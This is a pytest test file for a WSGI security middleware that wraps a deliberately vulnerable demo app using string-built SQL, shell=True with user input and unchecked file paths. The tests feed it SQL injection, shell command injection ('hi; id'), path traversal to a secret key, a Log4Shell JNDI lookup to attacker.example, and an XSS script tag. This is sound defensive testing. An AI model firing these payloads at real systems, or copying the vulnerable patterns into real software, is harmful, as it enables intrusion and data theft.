"""The WSGI middleware around a minimal, deliberately vulnerable WSGI app (no framework needed)."""

from __future__ import annotations

import io
import json
import sqlite3
import subprocess
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode
from wsgiref.util import setup_testing_defaults

import pytest

from soryoku.shield import ShieldConfig, protect
from soryoku.shield.wsgi import ShieldWSGI


def make_app(db: Path, files: Path) -> Callable[..., Iterable[bytes]]:
    """A vulnerable app: string-built SQL and shell, unchecked file names; it turns errors into 500s."""

    def app(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
        query = {k: v[0] for k, v in parse_qs(environ.get("QUERY_STRING", "")).items()}
        path = environ["PATH_INFO"]
        try:
            if path == "/user":
                conn = sqlite3.connect(db)
                try:
                    rows = conn.execute(f"SELECT id FROM users WHERE name = '{query['name']}'").fetchall()
                finally:
                    conn.close()
                body = json.dumps(rows).encode()
            elif path == "/echo":
                body = subprocess.run(
                    f"echo {query['text']}", shell=True, capture_output=True, check=True
                ).stdout
            elif path == "/file":
                body = (files / query["name"]).read_bytes()
            elif path == "/json":
                length = int(environ.get("CONTENT_LENGTH") or 0)
                data = json.loads(environ["wsgi.input"].read(length))
                body = json.dumps({"got": data}).encode()
            else:
                body = b"hello"
        except Exception as error:  # what frameworks do: the exception becomes a 500 page
            start_response("500 Internal Server Error", [("content-type", "text/plain")])
            return [f"error: {type(error).__name__}".encode()]
        start_response("200 OK", [("content-type", "application/octet-stream")])
        return [body]

    return app


@pytest.fixture
def app_paths(tmp_path: Path) -> tuple[Path, Path]:
    db = tmp_path / "app.db"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE users (id INTEGER, name TEXT)")
    conn.executemany("INSERT INTO users VALUES (?, ?)", [(1, "alice"), (2, "bob")])
    conn.commit()
    conn.close()
    files = tmp_path / "files"
    files.mkdir()
    (files / "report.v2.txt").write_text("report")
    (tmp_path / "secret.key").write_text("s3cret")
    return db, files


@pytest.fixture
def guarded(app_paths: tuple[Path, Path]) -> Iterator[Callable[..., tuple[str, dict[str, str], bytes]]]:
    app = protect(make_app(*app_paths), ShieldConfig.from_mapping({"mode": "block"}))
    assert isinstance(app, ShieldWSGI)

    def call(
        path: str, query: dict[str, str] | None = None, body: bytes = b"", **headers: str
    ) -> tuple[str, dict[str, str], bytes]:
        environ: dict[str, Any] = {"PATH_INFO": path, "QUERY_STRING": urlencode(query or {})}
        setup_testing_defaults(environ)
        environ["REMOTE_ADDR"] = "203.0.113.10"
        for name, value in headers.items():
            environ["HTTP_" + name.upper()] = value
        if body:
            environ.update(
                {
                    "REQUEST_METHOD": "POST",
                    "CONTENT_TYPE": "application/json",
                    "CONTENT_LENGTH": str(len(body)),
                }
            )
            environ["wsgi.input"] = io.BytesIO(body)
        seen: dict[str, Any] = {}

        def start_response(status: str, response_headers: list[tuple[str, str]], exc_info: Any = None) -> Any:
            seen["status"], seen["headers"] = status, dict(response_headers)
            return lambda data: None

        result = app(environ, start_response)
        try:
            data = b"".join(result)
        finally:
            close = getattr(result, "close", None)
            if close is not None:
                close()
        return seen["status"], seen["headers"], data

    yield call


def test_clean_requests_pass(guarded: Callable[..., Any]) -> None:
    assert guarded("/") == ("200 OK", {"content-type": "application/octet-stream"}, b"hello")
    assert guarded("/user", {"name": "alice"})[2] == b"[[1]]"
    assert guarded("/echo", {"text": "O'Brien"})[0] == "500 Internal Server Error"  # sh refuses it: app bug
    assert guarded("/file", {"name": "report.v2.txt"})[2] == b"report"
    assert guarded("/json", body=b'{"name": "D\'Angelo"}')[2] == b'{"got": {"name": "D\'Angelo"}}'


def test_sql_injection_becomes_403_even_when_the_app_swallows_it(guarded: Callable[..., Any]) -> None:
    status, headers, body = guarded("/user", {"name": "x' OR '1'='1"})
    assert status == "403 Forbidden"
    assert headers["x-soryoku-block"] == "sqli:token_structure"
    assert b"sqli:token_structure" in body


def test_shell_and_path_attacks_become_403(guarded: Callable[..., Any]) -> None:
    assert guarded("/echo", {"text": "hi; id"})[1]["x-soryoku-block"] == "shell:command_structure"
    assert guarded("/file", {"name": "../secret.key"})[1]["x-soryoku-block"] == "path:traversal"


def test_request_rules_block_before_the_app(guarded: Callable[..., Any]) -> None:
    status, headers, _ = guarded("/", user_agent="${jndi:ldap://attacker.example/a}")
    assert (status, headers["x-soryoku-block"]) == ("403 Forbidden", "known_bad_inputs:log4shell")
    assert (
        guarded("/json", body=b'{"bio": "<script>alert(1)</script>"}')[1]["x-soryoku-block"]
        == "xss:script_tag"
    )


def test_monitor_mode_only_records(app_paths: tuple[Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    app = protect(make_app(*app_paths))
    environ: dict[str, Any] = {"PATH_INFO": "/user", "QUERY_STRING": urlencode({"name": "x' OR '1'='1"})}
    setup_testing_defaults(environ)
    seen: list[str] = []
    with caplog.at_level("INFO", logger="soryoku.shield"):
        body = b"".join(app(environ, lambda status, headers, exc_info=None: seen.append(status)))
    assert seen == ["200 OK"]
    assert body == b"[[1], [2]]"
    logged = [json.loads(r.getMessage()) for r in caplog.records if r.name == "soryoku.shield"]
    assert [(e["label"], e["action"]) for e in logged] == [("soryoku:shield:sqli:token_structure", "monitor")]


def test_streaming_app_keeps_context_during_iteration(app_paths: tuple[Path, Path]) -> None:
    def streaming(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterator[bytes]:
        start_response("200 OK", [])
        yield b"a"
        conn = sqlite3.connect(app_paths[0])
        try:
            conn.execute("SELECT id FROM users WHERE id = " + parse_qs(environ["QUERY_STRING"])["id"][0])
        finally:
            conn.close()
        yield b"b"

    app = protect(streaming, ShieldConfig(mode="block"))
    environ: dict[str, Any] = {"PATH_INFO": "/", "QUERY_STRING": "id=1%20OR%201%3D1"}
    setup_testing_defaults(environ)
    iterator = iter(app(environ, lambda *args: None))
    assert next(iterator) == b"a"
    from soryoku.shield import ShieldBlockedError

    with pytest.raises(ShieldBlockedError):
        next(iterator)


def test_behind_a_real_wsgi_server(app_paths: tuple[Path, Path]) -> None:
    import http.client
    import threading
    from wsgiref.simple_server import WSGIRequestHandler, make_server

    class Quiet(WSGIRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            return None

    server = make_server(
        "127.0.0.1", 0, protect(make_app(*app_paths), ShieldConfig(mode="block")), handler_class=Quiet
    )
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        results = []
        for target in (
            "/user?name=alice",
            "/user?name=x%27%20OR%20%271%27%3D%271",
            "/file?name=..%2Fsecret.key",
        ):
            conn = http.client.HTTPConnection("127.0.0.1", server.server_port, timeout=10)
            conn.request("GET", target)
            response = conn.getresponse()
            results.append((response.status, response.getheader("x-soryoku-block"), response.read()[:5]))
            conn.close()
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)
    assert results == [
        (200, None, b"[[1]]"),
        (403, "sqli:token_structure", b"Forbi"),
        (403, "path:traversal", b"Forbi"),
    ]
